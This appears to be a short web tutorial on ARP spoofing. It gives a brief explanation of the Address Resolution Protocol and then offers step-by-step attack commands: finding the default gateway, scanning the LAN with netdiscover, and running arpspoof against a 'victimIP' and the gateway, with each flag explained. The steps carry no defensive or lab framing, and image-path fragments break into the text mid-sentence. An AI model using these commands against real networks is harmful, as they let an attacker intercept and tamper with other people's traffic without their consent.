Hacking Tutorials

How to Do ARP Spoofing/Poisoning

ARP spoofing is a type of attack in which a malicious actor sends falsified ARP (Address Resolution Protocol) messages over a local area network. This results in the linking of an attacker’s MAC address with the IP address of a legitimate computer or server on the network.
The Address Resolution Protocol is a communication protocol used for discovering the link layer address associated with a given IPv4 address, a critical function inthe Internet protocol suite
Check your default gateway:
ip route
Scan your network:
Netdiscover -r
-r is for range
Now start the ARP Poisoning/Spoofing:
arpspoof -i eth0 -t victimIP -r DefaultGateway
-i is for interface.
-t is for target.
-ris for default gateway.